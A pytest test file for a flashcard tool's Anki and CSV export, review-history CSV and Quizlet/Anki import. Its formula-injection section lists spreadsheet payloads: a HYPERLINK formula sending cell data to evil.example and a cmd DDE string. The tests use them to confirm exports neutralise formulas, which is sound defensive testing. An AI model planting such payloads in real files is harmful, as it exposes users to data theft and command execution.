"""Export to Anki and CSV, the review-history CSV, and importing Quizlet/Anki term files."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from quiz import interop
from quiz.cli import app
from quiz.deck import load_deck
from quiz.errors import QuizError, UsageError

SOURCE = """Russia will leave the ISS "after 2024" & build its own station.
Yuri Borisov, head of Roscosmos, told President Putin <in person>.
The station, launched in 1998, serves navigation, communication and data transmission.
"""

DECK = """\
id: demo
title: Demo <deck>
sources: src
cards:
  - id: exit
    question: When will Russia leave the ISS?
    answer: after 2024
    accept: [post-2024]
    cite:
      - source: a.txt
        quote: 'Russia will leave the ISS "after 2024" & build'
    tags: [dates, key facts]
  - id: chief
    type: choice
    question: Who heads <Roscosmos>?
    answer: Yuri Borisov
    choices: [Dmitry Rogozin, Yuri Borisov]
    cite:
      - source: a.txt
        quote: Yuri Borisov, head of Roscosmos
      - source: sub/b.txt
        quote: Borisov
  - id: launch
    type: truefalse
    question: The station was launched in 1998.
    answer: true
    cite:
      - source: a.txt
        quote: launched in 1998
  - id: putin
    type: flip
    question: Whom did Borisov tell?
    answer: President Putin, <in person>
    cite:
      - source: a.txt
        quote: told President Putin <in person>
  - id: services
    type: cloze
    text: 'It serves {{navigation}}, {{communication::c...}} & {{data transmission}}.'
    cite:
      - source: a.txt
        quote: navigation, communication and data transmission
"""


@pytest.fixture()
def deck_file(tmp_path: Path) -> Path:
    (tmp_path / "src" / "sub").mkdir(parents=True)
    (tmp_path / "src" / "a.txt").write_text(SOURCE, encoding="utf-8")
    (tmp_path / "src" / "sub" / "b.txt").write_text("Borisov\n", encoding="utf-8")
    path = tmp_path / "demo.yaml"
    path.write_text(DECK, encoding="utf-8")
    return path


def run(*args: str, env: dict | None = None):
    return CliRunner().invoke(app, list(args), env=env)


# ---------------------------------------------------------------------------------------------- Anki


def _import_into(collection, apkg: Path):
    from anki.collection import ImportAnkiPackageOptions, ImportAnkiPackageRequest

    return collection.import_anki_package(
        ImportAnkiPackageRequest(package_path=str(apkg), options=ImportAnkiPackageOptions())
    ).log


def _notes(collection) -> dict[str, dict]:
    """Imported notes by their Card ID field: note type, fields, tags, number of Anki cards."""
    notes = {}
    for nid in collection.find_notes(""):
        note = collection.get_note(nid)
        fields = dict(note.items())
        notes[fields["Card ID"]] = {"type": note.note_type()["name"], "fields": fields, "tags": sorted(note.tags),
                                    "cards": len(note.card_ids()), "guid": note.guid}
    return notes


def test_apkg_imports_into_anki_with_citations(deck_file: Path, tmp_path: Path) -> None:
    from anki.collection import Collection

    apkg = tmp_path / "demo.apkg"
    result = run("export", str(deck_file), "--format", "apkg", "-o", str(apkg),
                 env={"QUIZ_NOW": "2026-11-21T10:00:00+00:00"})
    assert result.exit_code == 0, result.output
    assert f"Wrote 5 cards of demo to {apkg}" in result.output

    (tmp_path / "anki").mkdir()
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        log = _import_into(col, apkg)
        assert len(log.new) == 5
        notes = _notes(col)
        assert sorted(notes) == ["chief", "exit", "launch", "putin", "services"]
        assert col.card_count() == 4 + 3  # the cloze note makes one Anki card per gap

        exit_note = notes["exit"]
        assert exit_note["type"] == "quiz typed answer"
        assert exit_note["fields"]["Question"] == "When will Russia leave the ISS?"
        assert exit_note["fields"]["Answer"] == "after 2024"
        assert exit_note["fields"]["Also accepted"] == "post-2024"
        assert exit_note["fields"]["Citations"] == (
            '<blockquote class="quote">“Russia will leave the ISS &quot;after 2024&quot; &amp; build”'
            '<div class="source">— a.txt</div></blockquote>')
        assert exit_note["tags"] == ["dates", "key_facts"]

        chief = notes["chief"]["fields"]
        assert chief["Question"] == ('Who heads &lt;Roscosmos&gt;?<ol class="choices"><li>Dmitry Rogozin</li>'
                                     "<li>Yuri Borisov</li></ol>")
        assert "— sub/b.txt" in chief["Citations"] and "Yuri Borisov, head of Roscosmos" in chief["Citations"]
        assert notes["launch"]["fields"]["Answer"] == "True"
        assert notes["putin"]["fields"]["Answer"] == "President Putin, &lt;in person&gt;"

        cloze = notes["services"]
        assert cloze["type"] == "quiz cloze"
        assert cloze["fields"]["Text"] == ("It serves {{c1::navigation}}, {{c2::communication::c...}} &amp; "
                                           "{{c3::data transmission}}.")
        assert "navigation, communication and data transmission" in cloze["fields"]["Back Extra"]
        assert cloze["cards"] == 3

        deck_names = [d.name for d in col.decks.all_names_and_ids()]
        assert "Demo <deck>" in deck_names
    finally:
        col.close()


def test_the_iss_deck_exports_every_card_with_its_citations(tmp_path: Path) -> None:
    import html

    from anki.collection import Collection

    deck_path = Path(__file__).resolve().parent.parent / "decks" / "iss.yaml"
    deck = load_deck(deck_path)
    apkg = tmp_path / "iss.apkg"
    assert interop.export_apkg(deck, apkg, datetime(2026, 11, 21, tzinfo=timezone.utc)) == len(deck.cards)
    (tmp_path / "anki").mkdir()
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        _import_into(col, apkg)
        notes = _notes(col)
        assert sorted(notes) == sorted(card.id for card in deck.cards)
        assert col.card_count() == sum(len(card.items) for card in deck.cards)  # one Anki card per review item
        for card in deck.cards:
            fields = notes[card.id]["fields"]
            back = fields.get("Citations", fields.get("Back Extra"))
            for citation in card.cite:
                # the back names each source by its catalogue label
                assert html.escape(citation.quote) in back and f"— {html.escape(deck.label(citation.source))}" in back, \
                    card.id
    finally:
        col.close()


def test_reimporting_a_newer_export_updates_instead_of_duplicating(deck_file: Path, tmp_path: Path) -> None:
    from anki.collection import Collection

    first, second = tmp_path / "v1.apkg", tmp_path / "v2.apkg"
    assert run("export", str(deck_file), "-f", "apkg", "-o", str(first),
               env={"QUIZ_NOW": "2026-11-21T10:00:00+00:00"}).exit_code == 0
    deck_file.write_text(DECK.replace("question: When will Russia leave the ISS?",
                                      "question: When does Russia leave the ISS?"), encoding="utf-8")
    assert run("export", str(deck_file), "-f", "apkg", "-o", str(second),
               env={"QUIZ_NOW": "2026-11-22T10:00:00+00:00"}).exit_code == 0

    (tmp_path / "anki").mkdir()
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        assert len(_import_into(col, first).new) == 5
        log = _import_into(col, second)
        assert (len(log.new), len(log.updated)) == (0, 5)
        notes = _notes(col)
        assert len(notes) == 5 and col.card_count() == 7
        assert notes["exit"]["fields"]["Question"] == "When does Russia leave the ISS?"
    finally:
        col.close()


def test_apkg_ids_are_stable(deck_file: Path) -> None:
    import genanki

    deck = load_deck(deck_file)
    assert interop.anki_deck_id("demo") == interop.anki_deck_id("demo") != interop.anki_deck_id("demo2")
    assert interop.anki_deck_id("demo") > 1
    assert genanki.guid_for("demo", "exit") == genanki.guid_for(deck.id, deck.cards[0].id)


def test_apkg_needs_an_output_file(deck_file: Path) -> None:
    result = run("export", str(deck_file), "--format", "apkg")
    assert result.exit_code == 2
    assert result.output == "Error: an Anki package is a file: give one with -o, e.g. -o deck.apkg\n"


def test_export_rejects_unknown_format_and_bad_deck(deck_file: Path, tmp_path: Path) -> None:
    result = run("export", str(deck_file), "--format", "pdf", "-o", str(tmp_path / "x"))
    assert (result.exit_code, result.output) == (2, "Error: unknown export format 'pdf'; use --format apkg, csv, "
                                                    "gift, moodle-xml or qti\n")
    bad = tmp_path / "bad.yaml"
    bad.write_text("id: bad\ntitle: Bad\ncards: 3\n", encoding="utf-8")
    result = run("export", str(bad), "--format", "csv", "-o", str(tmp_path / "bad.csv"))
    assert result.exit_code == 2
    assert result.output == f"{bad}:3:8: 'cards' must be a list of cards ('- id: ...'), got the number 3\n"
    assert not (tmp_path / "bad.csv").exists()


# ---------------------------------------------------------------------------------------------- CSV


def test_csv_export_rows(deck_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "demo.csv"
    result = run("export", str(deck_file), "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [
        ["id", "type", "question", "answer", "accept", "choices", "source", "quote", "tags", "source_label"],
        ["exit", "typed", "When will Russia leave the ISS?", "after 2024", "post-2024", "", "a.txt",
         'Russia will leave the ISS "after 2024" & build', "dates | key facts", ""],
        ["chief", "choice", "Who heads <Roscosmos>?", "Yuri Borisov", "", "Dmitry Rogozin | Yuri Borisov",
         "a.txt | sub/b.txt", "Yuri Borisov, head of Roscosmos | Borisov", "", ""],
        ["launch", "truefalse", "The station was launched in 1998.", "true", "", "", "a.txt", "launched in 1998", "",
         ""],
        ["putin", "flip", "Whom did Borisov tell?", "President Putin, <in person>", "", "", "a.txt",
         "told President Putin <in person>", "", ""],
        ["services", "cloze", "It serves [...], [c...] & [...].", "navigation | communication | data transmission",
         "", "", "a.txt", "navigation, communication and data transmission", "", ""],
    ]


def test_exports_and_imports_never_overwrite_their_input(deck_file: Path, tmp_path: Path) -> None:
    before = deck_file.read_bytes()
    for fmt in ("csv", "apkg"):
        result = run("export", str(deck_file), "--format", fmt, "-o", str(deck_file))
        assert (result.exit_code, result.output) == (2, f"Error: {deck_file} is the deck being exported; "
                                                        "choose another file\n")
    terms = tmp_path / "t.tsv"
    terms.write_text("a\tb\n", encoding="utf-8")
    result = run("import", str(terms), "-o", str(terms), "--force")
    assert (result.exit_code, result.output) == (2, f"Error: {terms} is the file being imported; choose another file\n")
    assert deck_file.read_bytes() == before and terms.read_text(encoding="utf-8") == "a\tb\n"


def test_csv_export_to_stdout(deck_file: Path) -> None:
    result = run("export", str(deck_file), "--format", "csv")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == "id,type,question,answer,accept,choices,source,quote,tags,source_label"
    assert len(list(csv.reader(io.StringIO(result.stdout)))) == 6


# ---------------------------------------------------------------------------------------------- history


def _store_with_history(db: Path):
    from quiz.model import ItemState, State, Review
    from quiz.store import Store

    t0 = datetime(2026, 11, 20, 9, 0, 0, 123000, tzinfo=timezone.utc)
    new = ItemState()
    learning = ItemState(State.LEARNING, step=0, stability=2.3065, difficulty=2.1181,
                         due=t0 + timedelta(minutes=10), last_review=t0, reps=1)
    review = ItemState(State.REVIEW, stability=2.5, difficulty=2.0, due=t0 + timedelta(days=2),
                       last_review=t0 + timedelta(minutes=11), reps=2)
    with Store(db, "alice") as store:
        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0, rating=3, verdict="almost",
                            answer="2024", duration_ms=5210, before=new, after=learning, interval_days=0.0069))
        store.record(Review(deck="demo", card="services", gap=2, reviewed_at=t0 + timedelta(minutes=1), rating=1,
                            verdict="wrong", answer="=HYPERLINK(\"x\")", duration_ms=9000, before=new,
                            after=learning, interval_days=0.0007))
        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0 + timedelta(minutes=11), rating=4,
                            verdict="correct", answer="after 2024, \"officially\"", duration_ms=1500,
                            before=learning, after=review, interval_days=2.0, override=True))
        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0 + timedelta(minutes=12), rating=3,
                            verdict="correct", answer="after 2024", duration_ms=800, before=review,
                            after=review, interval_days=0.0, practice=True))
        store.record(Review(deck="other", card="x", gap=0, reviewed_at=t0 + timedelta(minutes=13), rating=3,
                            verdict="self", answer="", duration_ms=700, before=new, after=learning,
                            interval_days=0.0069))
    with Store(db, "bob") as store:
        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0, rating=2, verdict="almost",
                            answer="2024", duration_ms=100, before=new, after=learning, interval_days=0.0069))


HISTORY_HEADER = ("card_id,review_time,review_rating,review_state,review_duration,deck,card,gap,reviewed_at,"
                  "verdict,answer,practice,override,profile")


def test_history_csv_rows(tmp_path: Path, deck_file: Path) -> None:
    db = tmp_path / "h.db"
    _store_with_history(db)
    out = tmp_path / "history.csv"
    result = run("history", "--deck", str(deck_file), "--format", "csv", "-o", str(out),
                 "--profile", "alice", "--db", str(db))
    assert result.exit_code == 0, result.output
    assert result.output == f"Wrote 4 answers to {out}\n"
    assert out.read_bytes().decode("utf-8").split("\r\n") == [  # csv module: CRLF rows
        HISTORY_HEADER,
        "demo/exit,1795165200123,3,0,5210,demo,exit,0,2026-11-20T09:00:00.123Z,almost,2024,0,0,alice",
        "demo/services#2,1795165260123,1,0,9000,demo,services,2,2026-11-20T09:01:00.123Z,wrong,"
        "\"'=HYPERLINK(\"\"x\"\")\",0,0,alice",
        "demo/exit,1795165860123,4,1,1500,demo,exit,0,2026-11-20T09:11:00.123Z,correct,"
        "\"after 2024, \"\"officially\"\"\",0,1,alice",
        "demo/exit,1795165920123,3,2,800,demo,exit,0,2026-11-20T09:12:00.123Z,correct,after 2024,1,0,alice",
        "",
    ]


def _answers(db: Path) -> int:
    from quiz.store import Store

    with Store(db, "alice", create=False) as store:
        return sum(1 for _ in store.reviews())


@pytest.mark.parametrize("target", ["h.db", "h.db-wal", "h.db-shm", "link-to-h.db", "hardlink-to-h.db"])
def test_history_never_writes_over_the_database_it_reads(tmp_path: Path, target: str) -> None:
    # `quiz history --db h.db -o h.db` used to print "Wrote 5 answers to h.db" and destroy them all.
    db = tmp_path / "h.db"
    _store_with_history(db)
    (tmp_path / "link-to-h.db").symlink_to(db)
    os.link(db, tmp_path / "hardlink-to-h.db")
    before = db.read_bytes()
    out = tmp_path / target
    for force in ([], ["--force"]):
        result = run("history", "--profile", "alice", "--db", str(db), "-o", str(out), *force)
        assert result.exit_code == 2, result.output
        assert result.output.startswith(f"Error: {out} is ")
        assert result.output.endswith("; choose another file\n")
    assert run("history", "--db", str(db), "-o", str(db)).output == (
        f"Error: {db} is the history database in use; choose another file\n")
    assert db.read_bytes() == before and _answers(db) == 5
    assert not (tmp_path / "h.db-wal").exists() and not (tmp_path / "h.db-shm").exists()


def test_no_output_replaces_a_quiz_database_or_a_file_in_use(tmp_path: Path, deck_file: Path) -> None:
    db = tmp_path / "h.db"
    _store_with_history(db)
    other = tmp_path / "other.db"
    _store_with_history(other)
    before = other.read_bytes()
    for args in (["history", "--db", str(db)], ["export", str(deck_file), "-f", "csv"],
                 ["export", str(deck_file), "-f", "apkg"]):
        result = run(*args, "-o", str(other), "--force")
        assert result.output == f"Error: {other} is a quiz history database; choose another file\n"
        wal = tmp_path / "other.db-wal"
        result = run(*args, "-o", str(wal), "--force")
        assert result.output == (f"Error: {wal} is the wal file of the quiz history database {other}; "
                                 "choose another file\n")
        assert not wal.exists()
    assert other.read_bytes() == before
    source = tmp_path / "src" / "sub" / "b.txt"
    result = run("export", str(deck_file), "-f", "csv", "-o", str(source), "--force")
    assert result.output == f"Error: {source} is a source cited by {deck_file}; choose another file\n"
    result = run("history", "--deck", str(deck_file), "--db", str(db), "-o", str(deck_file), "--force")
    assert result.output == f"Error: {deck_file} is the deck being read; choose another file\n"
    assert source.read_text(encoding="utf-8") == "Borisov\n" and deck_file.read_text(encoding="utf-8") == DECK


def test_outputs_replace_an_existing_file_only_with_force(tmp_path: Path, deck_file: Path) -> None:
    db = tmp_path / "h.db"
    _store_with_history(db)
    for args in (["history", "--db", str(db), "--profile", "alice"], ["export", str(deck_file), "-f", "csv"],
                 ["export", str(deck_file), "-f", "apkg"]):
        out = tmp_path / "kept.txt"
        out.write_text("precious\n", encoding="utf-8")
        refused = run(*args, "-o", str(out))
        assert (refused.exit_code, refused.output) == (2, f"Error: {out} exists; add --force to replace it\n")
        assert out.read_text(encoding="utf-8") == "precious\n"
        out.chmod(0o640)
        forced = run(*args, "-o", str(out), "--force")
        assert forced.exit_code == 0, forced.output
        assert out.read_bytes() != b"precious\n" and (out.stat().st_mode & 0o777) == 0o640
    # Through a symlink: the file it points to is replaced, the link stays a link.
    target, link = tmp_path / "target.csv", tmp_path / "link.csv"
    target.write_text("old\n", encoding="utf-8")
    link.symlink_to(target)
    assert run("export", str(deck_file), "-f", "csv", "-o", str(link), "--force").exit_code == 0
    assert link.is_symlink() and target.read_text(encoding="utf-8").startswith("id,type,question")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left
    stdout = run("history", "--db", str(db), "--profile", "alice", "-o", "-")
    assert stdout.exit_code == 0 and stdout.stdout.startswith("card_id,")


def test_an_output_fifo_is_written_into_not_replaced(tmp_path: Path, deck_file: Path) -> None:
    import stat

    db = tmp_path / "h.db"
    _store_with_history(db)
    for args in (["history", "--db", str(db), "--profile", "alice"], ["export", str(deck_file), "-f", "csv"]):
        fifo = tmp_path / "pipe"
        os.mkfifo(fifo)
        reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # the reading end is open: writing never blocks
        try:
            result = run(*args, "-o", str(fifo))
            received = os.read(reader, 1 << 20)
        finally:
            os.close(reader)
        assert result.exit_code == 0, result.output
        assert stat.S_ISFIFO(fifo.lstat().st_mode)
        assert received.startswith((b"card_id,", b"id,type"))
        fifo.unlink()


def test_history_filters_and_json(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    _store_with_history(db)
    everything = run("history", "--profile", "alice", "--db", str(db))
    assert everything.exit_code == 0
    assert [line.split(",")[0] for line in everything.stdout.splitlines()[1:]] == [
        "demo/exit", "demo/services#2", "demo/exit", "demo/exit", "other/x"]
    no_practice = run("history", "--deck", "demo", "--no-practice", "--profile", "alice", "--db", str(db))
    assert len(no_practice.stdout.splitlines()) == 1 + 3
    bob = run("history", "--format", "json", "--db", str(db), env={"QUIZ_PROFILE": "bob"})
    assert json.loads(bob.stdout) == [{
        "card_id": "demo/exit", "review_time": 1795165200123, "review_rating": 2, "review_state": 0,
        "review_duration": 100, "deck": "demo", "card": "exit", "gap": 0, "reviewed_at": "2026-11-20T09:00:00.123Z",
        "verdict": "almost", "answer": "2024", "practice": 0, "override": 0, "profile": "bob",
    }]
    assert run("history", "--format", "xml", "--db", str(db)).exit_code == 2


def test_history_csv_is_what_the_fsrs_optimizer_reads(tmp_path: Path) -> None:
    """The py-fsrs optimizer takes ReviewLogs; rebuild them from our CSV the way its docs describe."""
    from fsrs import Rating, ReviewLog

    db = tmp_path / "h.db"
    _store_with_history(db)
    text = run("history", "--no-practice", "--profile", "alice", "--db", str(db)).stdout
    logs = []
    for row in csv.DictReader(io.StringIO(text)):
        logs.append(ReviewLog(card_id=hash(row["card_id"]) & 0xFFFFFFFF, rating=Rating(int(row["review_rating"])),
                              review_datetime=datetime.fromtimestamp(int(row["review_time"]) / 1000, timezone.utc),
                              review_duration=int(row["review_duration"])))
    assert [log.rating for log in logs] == [Rating.Good, Rating.Again, Rating.Easy, Rating.Good]
    assert logs[0].review_datetime == datetime(2026, 11, 20, 9, 0, 0, 123000, tzinfo=timezone.utc)


# ------------------------------------------------------------------------- CSV cells are never formulas

# Cells a spreadsheet would run as a formula (OWASP's list), also behind leading whitespace.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", " =1+1", "\n@x"]


def _formula_cells(rows: list[list[str]], numeric: set[str] = frozenset()) -> list[tuple[str, str]]:
    """(column, cell) of every cell a spreadsheet would take for a formula."""
    header, *body = rows
    return [(name, cell) for row in body for name, cell in zip(header, row)
            if name not in numeric and cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_every_text_cell_of_the_deck_csv_is_written_as_text(tmp_path: Path) -> None:
    # `quiz export --format csv` wrote `=HYPERLINK(...)` from a question as it was: a formula in Excel.
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.txt").write_text("text\n", encoding="utf-8")
    hostile = [v for v in HOSTILE if "\r" not in v] + ["\t@x"]  # a deck may not hold a CR
    path = tmp_path / "evil.yaml"
    path.write_text(
        "id: evil\ntitle: Evil\nsources: src\n"
        f"source_info: {{a.txt: {{label: {json.dumps(hostile[3])}}}}}\n"  # the source_label column
        "cards:\n"
        f"  - id: typed\n    question: {json.dumps(hostile[0])}\n    answer: {json.dumps(hostile[1])}\n"
        f"    accept: {json.dumps(hostile[2:5])}\n"
        f"    cite: [{{source: {json.dumps('@' + 'x.txt')}, quote: {json.dumps(hostile[5])}}}]\n"
        f"    tags: {json.dumps(hostile[6:])}\n"
        f"  - id: pick\n    type: choice\n    question: {json.dumps(hostile[3])}\n    answer: {json.dumps(hostile[0])}\n"
        f"    choices: {json.dumps(hostile[:2])}\n    cite: [{{source: a.txt, quote: {json.dumps(hostile[6])}}}]\n"
        f"  - id: gap\n    type: cloze\n    text: {json.dumps('=1+{{2}}')}\n"
        f"    cite: [{{source: {json.dumps('-a.txt')}, quote: {json.dumps(hostile[2])}}}]\n",
        encoding="utf-8")
    deck = load_deck(path)
    out = tmp_path / "evil.csv"
    result = run("export", str(path), "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    header, *raw = list(interop.deck_rows(deck))
    hostile_columns = {name for row in raw for name, cell in zip(header, row)
                       if cell.startswith(("\t", "\r")) or cell.lstrip()[:1] in ("=", "+", "-", "@")}
    # the deck really puts a hostile value in every text column (ids and type names are the loader's own)
    assert hostile_columns == set(header) - {"id", "type"}
    assert _formula_cells(rows) == []
    assert rows[1][2] == "'" + hostile[0]  # shown as the text it is, the quote hidden by the spreadsheet
    assert rows[3][2] == "'=1+[...]"


def test_every_text_cell_of_the_history_csv_is_written_as_text() -> None:
    # `quiz history` guarded the answer column only: a profile named =cmd|... became a formula.
    from types import SimpleNamespace

    from quiz.scheduler import ItemState

    when = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
    reviews = [SimpleNamespace(deck=value, card=value, gap=0, reviewed_at=when, rating=3, verdict=value,
                               answer=value, duration_ms=1000, before=ItemState(), practice=False,
                               override=False, profile=value) for value in HOSTILE]
    buffer = io.StringIO()
    interop.write_history(reviews, None, "csv", stdout=buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    numeric = {"review_time", "review_rating", "review_state", "review_duration", "gap", "practice", "override"}
    assert _formula_cells(rows, numeric) == []
    text_columns = set(interop.HISTORY_COLUMNS) - numeric - {"reviewed_at"}
    for row, value in zip(rows[1:], HOSTILE):
        cells = dict(zip(rows[0], row))
        assert {cells[c] for c in text_columns - {"card_id"}} == {"'" + value}
        assert cells["card_id"] == "'" + value + "/" + value
        assert int(cells["review_time"]) == 1795165200000  # numbers stay numbers


def test_a_profile_name_is_not_a_formula_in_the_history_csv(tmp_path: Path) -> None:
    from quiz.scheduler import ItemState
    from quiz.store import Review, Store

    db = tmp_path / "h.db"
    t0 = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
    with Store(db, "=cmd|' /C calc'!A0") as store:
        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0, rating=3, verdict="correct",
                            answer="@SUM(1)", duration_ms=5, before=ItemState(), after=ItemState(),
                            interval_days=0.0))
    result = run("history", "--db", str(db), "--profile", "=cmd|' /C calc'!A0")
    assert result.exit_code == 0, result.output
    row = list(csv.DictReader(io.StringIO(result.stdout)))[0]
    assert (row["profile"], row["answer"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1)")


# ---------------------------------------------------------------------------------------------- import


def _import(tmp_path: Path, name: str, content: str, *extra: str):
    src = tmp_path / name
    src.write_text(content, encoding="utf-8")
    out = tmp_path / "imported.yaml"
    return run("import", str(src), "-o", str(out), *extra), out


def test_import_quizlet_tsv_round_trips(tmp_path: Path) -> None:
    content = ("Roscosmos\tRussia's state space corporation\n"
               "Yuri Borisov\tHead of Roscosmos, said \"after 2024\": leave the ISS\n"
               "\n"
               "ISS\tInternational Space Station, launched 1998\n"
               "Roscosmos\tWho is 'Roskosmos'?\n"
               "Zoë & Ørsted\t#1 in yes: no\n")
    content = "#1 hit\tA song at the top of the charts\n" + content
    result, out = _import(tmp_path, "quizlet.tsv", content)
    assert result.exit_code == 0, result.output
    assert result.output == (f"Wrote 6 cards to {out}; fill in each `cite` (source file and verbatim quote), "
                             f"then run: quiz check {out}\n")
    text = out.read_text(encoding="utf-8")
    assert text.startswith("# Deck skeleton made by `quiz import` from quizlet.tsv (6 cards).\n")
    assert "# Questions ask the definition, expecting the term.\n" in text
    deck = load_deck(out)
    assert (deck.id, deck.title, deck.sources) == ("imported", "quizlet", tmp_path)
    assert [(c.id, c.type.value, c.question, c.answer) for c in deck.cards] == [
        ("1-hit", "typed", "A song at the top of the charts", "#1 hit"),
        ("roscosmos", "typed", "Russia's state space corporation", "Roscosmos"),
        ("yuri-borisov", "typed", "Head of Roscosmos, said \"after 2024\": leave the ISS", "Yuri Borisov"),
        ("iss", "typed", "International Space Station, launched 1998", "ISS"),
        ("roscosmos-2", "typed", "Who is 'Roskosmos'?", "Roscosmos"),
        ("zoe-orsted", "typed", "#1 in yes: no", "Zoë & Ørsted"),
    ]
    assert all([(c.source, c.quote) for c in card.cite] == [("TODO.txt", "TODO")] for card in deck.cards)

    # `quiz check` flags every card until the placeholders are replaced.
    check = run("check", str(out))
    assert check.exit_code == 1
    assert len(re.findall(r"source file 'TODO\.txt' not found", check.output)) == 6


def test_import_reverse_and_comma_csv(tmp_path: Path) -> None:
    result, out = _import(tmp_path, "terms.csv", 'Roscosmos,"Russia\'s space agency, a state corporation"\n'
                                                  "ISS,station, launched 1998\n", "--reverse", "--title", "Terms")
    assert result.exit_code == 0, result.output
    deck = load_deck(out)
    assert deck.title == "Terms"
    assert [(c.id, c.question, c.answer) for c in deck.cards] == [
        ("roscosmos", "Roscosmos", "Russia's space agency, a state corporation"),
        ("iss", "ISS", "station, launched 1998"),  # Quizlet does not quote: the rest is the definition
    ]
    assert "# Questions ask the term, expecting the definition.\n" in out.read_text(encoding="utf-8")


def test_import_anki_text_export_round_trips(tmp_path: Path) -> None:
    content = ("#separator:tab\n"
               "#html:true\n"
               "#guid column:1\n"
               "#notetype column:2\n"
               "#deck column:3\n"
               "#tags column:6\n"
               "#tags:imported\n"
               "abc123\tBasic\tISS\tWho heads <b>Roscosmos</b>?\tYuri&nbsp;Borisov<br>since July\tpeople story\n"
               "def456\tBasic\tISS\t\"Leave the ISS\tafter\"\t2024\t\n"
               "ghi789\tCloze\tISS\tIt serves {{c1::navigation}} and {{c2::data transmission::data...}}\t\t\n")
    result, out = _import(tmp_path, "anki.txt", content)
    assert result.exit_code == 0, result.output
    deck = load_deck(out)
    assert [(c.id, c.type.value, c.question, c.answer, c.tags) for c in deck.cards] == [
        ("who-heads-roscosmos", "typed", "Who heads Roscosmos?", "Yuri Borisov since July",
         ("imported", "people", "story")),
        ("leave-the-iss-after", "typed", "Leave the ISS after", "2024", ("imported",)),
        ("it-serves-navigation-and-data", "cloze", "", "", ("imported",)),
    ]
    cloze = deck.cards[2]
    assert cloze.text == "It serves {{navigation}} and {{data transmission::data...}}"
    assert cloze.gaps == ("navigation", "data transmission")
    assert "# Questions ask the front of each Anki note, expecting the back.\n" in out.read_text(encoding="utf-8")


def test_import_refuses_to_overwrite_unless_forced(tmp_path: Path) -> None:
    result, out = _import(tmp_path, "q.tsv", "a\tb\n")
    assert result.exit_code == 0
    before = out.read_text(encoding="utf-8")
    again, _ = _import(tmp_path, "q.tsv", "c\td\n")
    assert (again.exit_code, again.output) == (2, f"Error: {out} exists; add --force to replace it\n")
    assert out.read_text(encoding="utf-8") == before
    forced, _ = _import(tmp_path, "q.tsv", "c\td\n", "--force")
    assert forced.exit_code == 0
    assert load_deck(out).cards[0].answer == "c"


@pytest.mark.parametrize(("content", "message"), [
    ("", "Error: {src} has no term/definition lines\n"),
    ("\n  \n", "Error: {src} has no term/definition lines\n"),
    ("just a line\nterm\tdefinition\n", "{src}:1:1: expected a term and a definition separated by tab\n"),
    ("term\t\n", "{src}:1:1: expected a term and a definition separated by tab\n"),
    ("#separator:weird\na\tb\n", "{src}:1:1: unknown separator 'weird'; use tab, comma, semicolon, pipe, space "
                                 "or colon\n"),
])
def test_import_rejects_unusable_input(tmp_path: Path, content: str, message: str) -> None:
    result, out = _import(tmp_path, "bad.tsv", content)
    assert result.exit_code == 2
    assert result.output == message.format(src=tmp_path / "bad.tsv")
    assert not out.exists()


def test_import_rejects_missing_binary_and_non_utf8_files(tmp_path: Path) -> None:
    out = tmp_path / "x.yaml"
    missing = run("import", str(tmp_path / "nope.tsv"), "-o", str(out))
    assert (missing.exit_code, missing.output) == (2, f"Error: cannot read {tmp_path / 'nope.tsv'}: no such file\n")
    binary = tmp_path / "b.tsv"
    binary.write_bytes(b"a\tb\x00c\n")
    result = run("import", str(binary), "-o", str(out))
    assert (result.exit_code, result.output) == (2, f"Error: {binary} is not a text file (it contains NUL bytes)\n")
    latin = tmp_path / "l.tsv"
    latin.write_bytes("Zoë\tname\n".encode("latin-1"))
    result = run("import", str(latin), "-o", str(out))
    assert (result.exit_code, result.output) == (2, f"Error: {latin} is not UTF-8 text (byte 3); save it as UTF-8 "
                                                    "and retry\n")
    assert not out.exists()


# Control characters (and bidi controls) are covered by test_control_characters_are_dropped_on_import.
_cell = st.text(st.characters(exclude_categories=["Cs", "Cc"],
                              exclude_characters="\x85\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
                min_size=1, max_size=20).filter(lambda s: bool(s.split()) and not s.startswith("#"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(_cell, _cell), min_size=1, max_size=4))
def test_any_quizlet_text_imports_into_a_loadable_deck(tmp_path: Path, pairs: list[tuple[str, str]]) -> None:
    src, out = tmp_path / "any.tsv", tmp_path / "any.yaml"
    src.write_text("".join(f"{term}\t{definition}\n" for term, definition in pairs), encoding="utf-8")
    interop.import_terms(src, out, force=True)
    deck = load_deck(out)  # YAML quoting and escaping survive: the loader reads back the very text
